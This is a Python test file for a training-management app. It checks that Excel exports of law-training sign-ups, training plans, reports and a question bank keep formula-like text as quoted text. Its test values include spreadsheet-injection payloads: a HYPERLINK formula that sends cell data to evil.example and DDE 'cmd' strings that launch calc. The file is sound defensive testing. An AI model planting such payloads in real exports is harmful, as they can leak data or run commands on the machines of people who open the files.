"""Issue 13, item 3: text that begins like a formula (=, +, -, @, tab, CR) stays text in
every Excel export of law trainings and training plans, its value unchanged."""

from datetime import timedelta
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from app.auth.models import Role
from app.courses.models import (
    PUBLISHED,
    Course,
    TrainingPlan,
    TrainingPlanCourse,
    TrainingPlanPerson,
)
from app.extensions import db, limiter
from app.law_trainings import services as law_services
from app.law_trainings.models import LawTraining
from app.orgs.rules.posts import Post
from app.spreadsheet import FORMULA_STARTS, workbook_bytes
from app.timeutil import local_today

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&C2,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _fresh_limits(app):
    limiter.reset()
    yield
    limiter.reset()


def _cells(data: bytes) -> dict:
    """Every string cell of every sheet, by value."""
    book = load_workbook(BytesIO(data))
    return {
        cell.value: cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def _assert_defused(data: bytes, values) -> None:
    cells = _cells(data)
    for value in values:
        # openpyxl reads CR LF as LF, and a lone CR back as-is
        cell = cells.get(value) or cells.get(value.replace("\r", "\n"))
        assert cell is not None, (value, list(cells))
        assert cell.data_type == "s", value
        assert cell.quotePrefix, value


@pytest.mark.parametrize("value", HOSTILE)
def test_the_helper_defuses_every_formula_start(value):
    book = Workbook()
    book.active.append(["表头"])
    book.active.append([value, "普通文字", 42])
    data = workbook_bytes(book)
    _assert_defused(data, [value])
    plain = _cells(data)["普通文字"]
    assert not plain.quotePrefix
    assert value.startswith(FORMULA_STARTS)


def test_law_training_signups_export(client, login, make):
    region = make.region("甲市")
    training = LawTraining(
        region_id=region.id,
        topic="+普法培训",
        held_on=local_today() + timedelta(days=5),
        starts_at="09:00",
        place="@会议中心",
        capacity=20,
        audience_types=["practitioner", "owner"],
    )
    db.session.add(training)
    db.session.commit()
    organisations = [v for v in HOSTILE if len(v.strip()) == len(v)]  # the form trims
    for n, organisation in enumerate(organisations):
        law_services.sign_up(
            training.id,
            name="张三",
            phone=f"1381234000{n}",
            id_tail="1234",
            audience_type="practitioner",
            organisation=organisation,
        )
    db.session.commit()
    make.user(Role.CITY_ADMIN, username="city", region=region)
    login("city")
    response = client.get(f"/law-trainings/{training.id}/signups.xlsx")
    assert response.status_code == 200
    _assert_defused(response.data, [*organisations, "+普法培训", "@会议中心"])


@pytest.fixture
def plan_world(make):
    region = make.region("甲市")
    enterprise = make.enterprise(region, name="-2+3+cmd|' /C calc'!A0")
    person = make.employee(enterprise, name='=HYPERLINK("http://x.cn")', post=Post.SECURITY)
    course = Course(title="@SUM(1+1)*cmd|' /C calc'!A0", category="post", status=PUBLISHED)
    db.session.add(course)
    db.session.flush()
    plan = TrainingPlan(
        enterprise_id=enterprise.id,
        title="=培训计划",
        due_on=local_today() + timedelta(days=30),
        posts=["security"],
    )
    db.session.add(plan)
    db.session.flush()
    db.session.add(TrainingPlanCourse(plan_id=plan.id, course_id=course.id))
    db.session.add(TrainingPlanPerson(plan_id=plan.id, employee_id=person.id))
    db.session.commit()
    make.user(Role.CITY_ADMIN, username="city", region=region)
    return {"plan": plan, "enterprise": enterprise, "person": person, "course": course}


def test_training_plan_export(client, login, plan_world):
    login("city")
    response = client.get(f"/plans/{plan_world['plan'].id}/export.xlsx")
    assert response.status_code == 200
    _assert_defused(response.data, [plan_world["person"].name, plan_world["course"].title])


def test_plan_report_export(client, login, plan_world):
    login("city")
    response = client.get("/plans/report.xlsx")
    assert response.status_code == 200
    _assert_defused(response.data, [plan_world["enterprise"].name, plan_world["person"].name])


def test_the_question_bank_export_keeps_formula_like_text_as_text():
    """A stem, an option or an explanation starting like a formula stays text in the export."""
    from question_bank.rules.types import Option, QuestionDraft, QuestionType
    from question_bank.spreadsheet import questions_workbook

    hostile = [
        QuestionDraft(
            type=QuestionType.SINGLE,
            stem='=HYPERLINK("http://evil.example/?"&A1,"点我")',
            options=[Option("A", "+1+1"), Option("B", "@SUM(1)")],
            answer="A",
            explanation="-2+3",
        )
    ]
    sheet = load_workbook(BytesIO(questions_workbook(hostile)))["试题"]
    cells = [cell for cell in sheet[2] if isinstance(cell.value, str)]
    risky = [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@"))]
    assert len(risky) == 4
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
